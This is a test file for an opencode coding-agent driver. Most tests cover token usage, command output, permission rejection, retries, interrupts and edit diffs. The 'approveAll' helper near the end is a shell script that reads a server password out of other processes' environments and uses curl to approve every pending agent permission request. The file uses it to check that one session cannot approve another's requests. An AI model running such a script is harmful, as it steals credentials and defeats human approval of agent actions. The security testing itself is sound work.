import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import type { UniversalItem } from '../../../src/schema/index.js';
import { agentConformance } from '../../conformance/agent.js';
import { hasBubblewrap } from '../../support/bubblewrap.js';
import { diffProblems } from '../../support/diff-problems.js';
import { isRun } from '../../support/is-run.js';
import { Conversation } from '../../support/real/conversation.js';
import { vocabularyProblems } from '../../support/vocabulary.js';
import { driver } from './driver.js';

const { echo, command, askedCommand, edit, delegateAsked } = driver.cues;

agentConformance(driver, (suite) => {
  const begin = (more: object = {}) => Conversation.begin(suite().daemon, { agent: 'opencode', ...more });

  it('tells what a turn used and cost', async () => {
    const session = await begin();
    const turn = await session.turn(echo('one'));
    expect(turn.of('turn.ended')[0]?.data.metadata).toMatchObject({
      model: 'scripted/large',
      usage: { input_tokens: 100, cached_tokens: 30, output_tokens: 7, total_tokens: 107 },
      context: { used_tokens: 107, window_tokens: 200_000 },
      cost_usd: 0.000084,
    });
    expect(session.native).toMatch(/^ses_/);
    await session.end();
  });

  it('streams the output of a command', { tags: ['commands'] }, async () => {
    const session = await begin({ permissionMode: 'bypass' });
    const turn = await session.turn(command('echo first; sleep 0.5; echo second'));
    expect(turn.results).toEqual([{ status: 'completed', output: 'first\nsecond\n' }]);
    const [result] = turn.items('tool_result');
    const deltas = turn.of('item.delta').filter(({ data }) => data.item_id === result?.item_id);
    expect(deltas.length).toBeGreaterThan(1);
    await session.end();
  });

  it('tells the model why a command was rejected, and stops without a reason', {
    tags: ['permissions'],
  }, async () => {
    const session = await begin();
    const { message } = askedCommand('touch never.txt');
    await session.send(message);
    await session.permit('reject', 'not today');
    const rejected = await session.turnEnd();
    expect(rejected.results).toMatchObject([
      { status: 'failed', output: expect.stringContaining('not today') },
    ]);
    expect(rejected.texts.at(-1)).toBe('Done.');
    await session.send(message);
    await session.permit('reject');
    const stopped = await session.turnEnd();
    expect(stopped.results.map(({ status }) => status)).toEqual(['failed']);
    expect(stopped.texts).toEqual(['Let me see.']);
    await session.end();
  });

  it('does not ask about what the user has forbidden', async () => {
    const session = await begin({ permissionMode: 'bypass' });
    const turn = await session.turn(command('rm never.txt'));
    expect(turn.of('permission.requested')).toEqual([]);
    expect(turn.results).toMatchObject([{ status: 'failed', output: expect.stringContaining('rule') }]);
    const below = await session.turn(delegateAsked!.message('rm never.txt'));
    expect(below.results).toContainEqual({ status: 'failed', output: expect.stringContaining('rule') });
    await session.end();
  });

  it('edits nothing while it plans', async () => {
    const session = await begin({ permissionMode: 'plan' });
    const turn = await session.turn(edit(session.directory).message);
    expect(turn.of('permission.requested')).toEqual([]);
    expect(turn.results.map(({ status }) => status)).toEqual(['failed', 'failed']);
    await session.end();
  });

  it('drops the effort with a model that has none', { tags: ['switching'] }, async () => {
    const session = await begin({ model: 'scripted/large', variant: 'high' });
    const { message } = driver.cues.settings!;
    expect((await session.turn(message)).texts).toEqual(['model large, effort high']);
    await session.configure({ model: 'scripted/small' });
    expect((await session.turn(message)).texts).toEqual(['model small, effort undefined']);
    await session.end();
  });

  it('reports the HTTP status of a wrong key', { tags: ['errors'] }, async () => {
    const session = await begin();
    const turn = await session.turn(failure('unauthorized'));
    expect(turn.errors).toMatchObject([{ details: { retryable: false, category: 'auth', status: 401 } }]);
    await session.end();
  });

  it.each(['limited', 'overloaded'])(
    'gives up after five retries of a model that is %s',
    {
      tags: ['errors'],
    },
    async (name) => {
      const session = await begin();
      const turn = await session.turn(failure(name));
      const attempts = turn.errors.map(({ details }) => details?.retryable);
      expect(attempts).toEqual([true, true, true, true, true, false]);
      await session.end();
    },
  );

  it('can be interrupted before its first turn in a folder has started', {
    tags: ['interrupt'],
  }, async () => {
    const session = await begin();
    await session.send(driver.cues.hold.message);
    await session.interrupt();
    expect((await session.turnEnd()).outcome).toBe('interrupted');
    expect((await session.turn(echo('after'))).texts).toEqual(['after']);
    await session.end();
  });

  it('stops a sub-agent that waits for a permission, and goes on', {
    tags: ['subagents', 'interrupt'],
  }, async () => {
    const session = await begin();
    await session.send(delegateAsked!.message('touch never.txt'));
    const { data } = await session.next('permission.requested');
    await session.interrupt(String(data.metadata.thread_id));
    const turn = await session.turnEnd();
    expect(turn.of('permission.resolved').map(({ data }) => data.metadata.reply)).toEqual(['cancelled']);
    expect(
      turn
        .items('status')
        .filter(isRun)
        .map(({ status }) => status),
    ).toEqual(['failed']);
    expect(turn.texts).toEqual(['My helper is back.']);
    expect(turn.outcome).toBe('completed');
    await session.end();
  });

  it('shows what an edit would change of the files on disk', { tags: ['permissions', 'edits'] }, async () => {
    const session = await begin();
    await files(session.directory);
    await session.send(`[[edit-existing ${session.directory}]]`);
    const diffs = [];
    for (let asked = 0; asked < 3; asked++) diffs.push((await session.permit('once')).metadata.diff);
    expect(diffs.flatMap((diff) => diffProblems(String(diff)))).toEqual([]);
    expect(diffs).toEqual([
      '--- a/full.txt\n+++ b/full.txt\n@@ -1 +1 @@\n-precious\n+other\n',
      '--- a/empty.txt\n+++ b/empty.txt\n@@ -0,0 +1 @@\n+filled\n',
      `--- a/indented.txt\n+++ b/indented.txt\n${INDENTED}`,
    ]);
    expect((await session.turnEnd()).outcome).toBe('completed');
    expect(vocabularyProblems(session.events())).toEqual([]);
    await session.end();
  });

  it('shows what a patch would change of the files on disk', { tags: ['permissions', 'edits'] }, async () => {
    const session = await begin({ model: 'scripted/gpt-5' });
    await files(session.directory);
    await session.send('[[edit-patch]]');
    const { metadata } = await session.permit('once');
    expect(metadata).toMatchObject({
      tool: 'apply_patch',
      kind: 'edit',
      title: 'full.txt and 3 more',
      paths: ['full.txt', 'indented.txt', 'gone.txt', 'here.txt', 'there.txt'].map((name) =>
        join(session.directory, name),
      ),
      scope: 'all edits in this session',
    });
    expect(metadata.diff).toBe(
      [
        '--- a/full.txt\n+++ b/full.txt\n@@ -1 +1 @@\n-precious\n+  other\n',
        `--- a/indented.txt\n+++ b/indented.txt\n${INDENTED}`,
        '--- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n',
        '--- a/here.txt\n+++ b/there.txt\n@@ -1 +1 @@\n-here\n+there\n',
      ].join(''),
    );
    expect((await session.turnEnd()).outcome).toBe('completed');
    expect(await readFile(join(session.directory, 'full.txt'), 'utf8')).toBe('  other\n');
    expect(vocabularyProblems(session.events())).toEqual([]);
    await session.end();
  });

  it('shows its to-do list as a plan, and its title', async () => {
    const session = await begin();
    await session.turn('[[todos]]');
    expect(notices(session, 'plan')).toEqual([
      {
        entries: [
          { content: 'Look', status: 'in_progress', priority: 'high' },
          { content: 'Leap', status: 'pending', priority: 'low' },
        ],
      },
      { entries: [{ content: 'Look', status: 'completed', priority: 'high' }] },
    ]);
    await session.until(({ type, data }) => type === 'item.completed' && isNotice(data.item, 'title'));
    expect(await session.client.call('session/get', { sessionId: session.id })).toMatchObject({
      title: 'A title',
      model: 'scripted/large',
    });
    await session.end();
  });

  it('reports an MCP server that does not start', { tags: ['own-mcp'] }, async () => {
    const session = await begin({ mcp: { broken: { type: 'local', command: ['/nonexistent/server'] } } });
    await session.until(({ type, data }) => type === 'item.completed' && isNotice(data.item, 'mcp'));
    expect(notices(session, 'mcp')).toEqual([{ server: 'broken', error: expect.stringContaining('ENOENT') }]);
    await session.turn(echo('still here'));
    expect(vocabularyProblems(session.events())).toEqual([]);
    await session.end();
  });

  it.runIf(hasBubblewrap)(
    'lets no command approve the requests of another session',
    {
      tags: ['permissions'],
    },
    async () => {
      const victim = await begin();
      const { id } = await attacked(victim, begin);
      expect(victim.events().at(-1)).toMatchObject({ type: 'permission.requested' });
      await victim.reply(id, 'reject');
      expect((await victim.turnEnd()).errors).toEqual([]);
      await victim.end();
    },
  );

  it('interrupts a turn whose request was approved by the command of another session', {
    tags: ['permissions'],
  }, async () => {
    const { stage, env } = suite().setup;
    const daemon = await stage.daemon({ env, args: ['--isolate', 'off'] });
    const beginOpen = (more: object = {}) => Conversation.begin(daemon, { agent: 'opencode', ...more });
    const victim = await beginOpen();
    const { id, output } = await attacked(victim, beginOpen);
    expect(output).toContain('true');
    const turn = await victim.turnEnd();
    expect(turn.errors).toMatchObject([{ code: 'unexpected_approval', details: { retryable: false } }]);
    expect(turn.of('permission.resolved')).toMatchObject([
      { data: { permission_id: id, metadata: { reply: 'once', resolved_by: 'agent' } } },
    ]);
    expect(turn.outcome).toBe('interrupted');
    await victim.end();
    await daemon.end('SIGTERM');
  });

  it('takes a message whose attachment does not exist', { tags: ['attachments'] }, async () => {
    const session = await begin();
    await session.send(echo('seen'), { attachments: [{ path: 'missing.txt' }] });
    const turn = await session.turnEnd();
    expect(turn.outcome).toBe('completed');
    expect(turn.texts).toHaveLength(1);
    await session.end();
  });
});

/** While a session asks for a permission, a command of another one on its server tries to give it. */
async function attacked(victim: Conversation, begin: (more: object) => Promise<Conversation>) {
  const { directory } = victim;
  await victim.send(askedCommand('sleep 60').message);
  const { data } = await victim.next('permission.requested');
  await writeFile(join(directory, 'approve.sh'), approveAll(directory));
  const attacker = await begin({ directory });
  await attacker.send(askedCommand('sh approve.sh').message);
  await attacker.permit('once');
  const [result] = (await attacker.turnEnd()).results;
  await attacker.end();
  return { id: data.permission_id, output: result?.output ?? '' };
}

/** A script that finds the server and its password, if need be in the processes above its own, and approves all requests. */
function approveAll(directory: string): string {
  const query = `directory=${encodeURIComponent(directory)}`;
  return String.raw`
words=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | sed -n 's/^OPENCODE_SERVER_PASSWORD=//p' | sort -u)
ports=$(awk '$4 == "0A" { split($2, at, ":"); print at[2] }' /proc/net/tcp)
for word in $words; do for port in $ports; do
  url=http://127.0.0.1:$(printf %d 0x$port)
  for id in $(curl -s -m 5 -u "opencode:$word" "$url/permission?${query}" | grep -o 'per_[A-Za-z0-9]*' | sort -u); do
    curl -s -m 5 -u "opencode:$word" -H 'content-type: application/json' -d '{"reply":"once"}' "$url/permission/$id/reply?${query}"
  done
done; done
`;
}

/** Two spaces before each line, of which the server shows none. */
const INDENTED = [
  '@@ -5,7 +5,7 @@',
  ...[5, 6, 7].map((number) => `   line ${number}`),
  '-  line 8',
  '+  LINE 8',
  ...[9, 10, 11].map((number) => `   line ${number}`),
  '',
].join('\n');

async function files(directory: string): Promise<void> {
  const indented = Array.from({ length: 12 }, (_, i) => `  line ${i + 1}\n`).join('');
  const contents = {
    'full.txt': 'precious\n',
    'empty.txt': '',
    'indented.txt': indented,
    'gone.txt': 'gone\n',
    'here.txt': 'here\n',
  };
  for (const [name, content] of Object.entries(contents)) await writeFile(join(directory, name), content);
}

function isNotice({ content: [part] }: UniversalItem, label: string): boolean {
  return part?.type === 'status' && part.label === label;
}

/** The fields of notices. */
function notices(session: Conversation, label: string): unknown[] {
  return session
    .items('status')
    .filter((item) => isNotice(item, label))
    .map(({ content }) => content.find((part) => part.type === 'json')?.json);
}

function failure(name: string): string {
  return driver.cues.failures.find((each) => each.name === name)!.message;
}
